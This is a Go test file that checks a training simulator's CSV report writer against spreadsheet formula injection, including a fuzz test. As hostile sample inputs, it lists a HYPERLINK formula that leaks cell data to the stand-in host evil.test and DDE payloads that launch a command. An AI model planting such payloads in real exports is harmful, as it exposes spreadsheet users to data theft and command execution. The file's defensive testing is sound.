package report

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"

	"github.com/rapport-sim/rapport/internal/results"
)

// TestCSVFormulaInjection: a trainee (or a scenario line) whose text a
// spreadsheet would run as a formula lands in the CSV report as text: a
// leading single quote, the cell quoted. Numbers stay numbers.
func TestCSVFormulaInjection(t *testing.T) {
	hostile := []string{
		`=HYPERLINK("http://evil.test/?"&A1,"Click")`,
		"+cmd|' /C calc'!A0",
		"-2+3",
		"@SUM(1+1)*cmd|' /C calc'!A0",
	}
	var recs []*results.Record
	for i, name := range hostile {
		r := rec(i, name, "late-delivery", results.Finished, 60, 60, 60, 60,
			turn(1, "greet", 1, "=1+1 "+name, 1, "+greeting"))
		recs = append(recs, r)
	}
	var b bytes.Buffer
	if err := WriteCSV(&b, Build(recs)); err != nil {
		t.Fatal(err)
	}
	out := b.String()
	rows, err := csv.NewReader(strings.NewReader(out)).ReadAll()
	if err != nil {
		t.Fatalf("not CSV: %v\n%s", err, out)
	}
	names := map[string]bool{}
	for _, row := range rows[1:] {
		for i, cell := range row {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("row %v: cell %d %q would run as a formula", row, i, cell)
			}
		}
		if row[0] == "trainee" {
			names[row[1]] = true
		}
		if row[3] == "choice" && !strings.HasPrefix(row[5], "'=1+1 ") {
			t.Errorf("choice line %q not neutralised", row[5])
		}
	}
	for _, h := range hostile {
		if !names["'"+h] {
			t.Errorf("trainee %q is not in the report as '%s: %v", h, h, names)
		}
		// Quoted as well as prefixed, so no reader splits it differently.
		if q := `"'` + strings.ReplaceAll(h, `"`, `""`) + `"`; !strings.Contains(out, q) {
			t.Errorf("the cell is not written as %s", q)
		}
	}
}

// TestCSVWriter: neutralised cells aside, the writer writes exactly what
// encoding/csv writes, and numeric columns are never touched.
func TestCSVWriter(t *testing.T) {
	rows := [][]string{
		CSVHeader,
		{"trainee", "Ann", "x", "mean", "overall", "", "72.5", "3", "", ""},
		{"scenario", "x", "", "choice", "n#1", `say "hi", then "bye"`, "0.5", "1", "2", "yes"},
		{"trainee", " lead", "", "x", "\\.", "a\nb", "", "", "", ""},
		{"trainee", "", "", "", "", "", "-3", "-1", "-0.25", ""},
		{"trainee", "-3", "+x", "@y", "\tz", "", "", "", "", "=no"},
	}
	var got, want bytes.Buffer
	cw := newCSVWriter(&got, csvNumeric)
	ref := csv.NewWriter(&want)
	for _, r := range rows[:5] {
		cw.Write(r)
		ref.Write(r)
	}
	cw.Write(rows[5])
	ref.Write([]string{"trainee", "'-3", "'+x", "'@y", "'\tz", "", "", "", "", "'=no"})
	if err := cw.Flush(); err != nil {
		t.Fatal(err)
	}
	ref.Flush()
	wantS := strings.Replace(want.String(), `'-3,'+x,'@y,'`+"\t"+`z,,,,,'=no`, `"'-3","'+x","'@y","'`+"\t"+`z",,,,,"'=no"`, 1)
	if got.String() != wantS {
		t.Errorf("got:\n%s\nwant:\n%s", got.String(), wantS)
	}
	if !strings.Contains(got.String(), "\ntrainee,,,,,,-3,-1,-0.25,\n") {
		t.Errorf("negative numbers in numeric columns changed:\n%s", got.String())
	}
}

// FuzzCSVWriter checks the writer against encoding/csv on any cells that
// are not neutralised, and that every cell reads back.
func FuzzCSVWriter(f *testing.F) {
	for _, s := range []string{"", "a", `"q"`, "a,b", " x", "\\.", "a\r\nb", "=1", "-2", "é"} {
		f.Add(s, "plain")
	}
	f.Fuzz(func(t *testing.T, a, b string) {
		row := []string{a, b, "x", "", "", "", a, b}
		var got, want bytes.Buffer
		cw := newCSVWriter(&got, csvNumeric)
		cw.Write(row)
		if err := cw.Flush(); err != nil {
			t.Fatal(err)
		}
		if !formulaStart(a) && !formulaStart(b) {
			ref := csv.NewWriter(&want)
			ref.Write(row)
			ref.Flush()
			if got.String() != want.String() {
				t.Fatalf("row %q: got %q, want %q", row, got.String(), want.String())
			}
		}
	})
}
